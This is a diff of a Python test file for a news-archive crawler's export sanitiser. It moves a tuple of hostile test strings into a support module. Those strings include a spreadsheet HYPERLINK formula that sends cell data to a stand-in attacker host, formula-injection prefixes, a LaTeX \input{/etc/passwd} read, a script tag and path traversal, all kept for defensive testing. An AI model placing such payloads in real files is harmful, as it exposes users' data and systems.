@@ -6,23 +6,21 @@ import csv
 import io
 import json
 import re
-from dataclasses import replace
 from datetime import UTC, date, datetime
 from pathlib import Path
 
 import polars
 import pytest
-from archive.conftest import Newsroom
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from lxml import etree
-from support.gazette import AUTHORS, ArchiveBuilder, article
+from support.hostile_archive import HOSTILE
+from support.newsroom import Newsroom
 
 from crawler.archive import Archive
 from crawler.archive.articles.frames import FRAME_COLUMNS
 from crawler.archive.articles.records import ArticleRow
 from crawler.archive.search.selection import Selection
-from crawler.normalisation.digest import compute_digest
 from crawler.research.exports import ExportOptions, export
 from crawler.research.exports.plain_text import make_file_name, make_text
 from crawler.research.exports.sanitize import escape_formula, make_name_part, replace_non_xml, replace_surrogates
@@ -32,68 +30,12 @@ from crawler.research.exports.tei import make_document
 
 NOW = datetime(2026, 11, 24, 23, 0, 0, tzinfo=UTC)
 TEI = {"t": "http://www.tei-c.org/ns/1.0"}
-HOSTILE = (
-    '=HYPERLINK("http://evil.example/?"&A1,"prize")',
-    "+1+1",
-    "-2+3",
-    "@SUM(1+9)",
-    "\t=1+1",
-    "\r=1+1",
-    "  =1+1",
-    "＝1+1",
-    "\n@cmd",
-    "a;=1+1;b",
-    'a",=1+1,"b',
-    'a;"=1+1";b',
-    "- one\n- two",
-    "bell\x07 escape\x1b[2J nul\x00 end",
-    "line\nbreak\r\nand\rreturn",
-    "two\u2028lines\u2029",
-    "\ufeffmark \ufffe\uffff",
-    "<script>alert(1)</script>&amp;]]>",
-    "}{\\input{/etc/passwd}%",
-    "TY  - JOUR\nER  - ",
-    "עברית \u202edrow\u202c",
-    "😀𠮷",
-    "m" * 1_000_000,
-    "../../etc/passwd",
-    "CON",
-    " ",
-    "'quoted'",
-)
-"""Headlines, bylines, kickers, leads of a page that means ill, or was typed carelessly."""
-
-
-@pytest.fixture(scope="module")
-def hostile(tmp_path_factory):
-    """An archive whose articles hold each of these everywhere."""
-    path = tmp_path_factory.mktemp("hostile") / "archive.db"
-    press = ArchiveBuilder(path)
-    for number, text in enumerate(HOSTILE):
-        made = article(press.room, number, "en")
-        short = text[:2000]
-        author = replace(AUTHORS["en"][0], name=short, sort_name=short, printed=short)
-        made = replace(
-            made,
-            headline=text,
-            byline=short,
-            lead=short,
-            kicker=short,
-            dateline=short,
-            dateline_place=short,
-            body=f"{short}\n\nThe end.",
-            authors=(author,),
-            dateline_agencies=(short,),
-        )
-        press.print(replace(made, digest=compute_digest(text, short, short, made.body, "en")))
-    press.close()
-    return path
 
 
 @pytest.fixture
-def make(hostile, tmp_path):
+def make(hostile_archive, tmp_path):
     def call(format_, *, name="out", **options):
-        with Archive(hostile) as archive:
+        with Archive(hostile_archive) as archive:
             export(archive, Selection(), format_, tmp_path / name, made_at=NOW, options=ExportOptions(**options))
             return tmp_path / name, list(archive.articles())
 
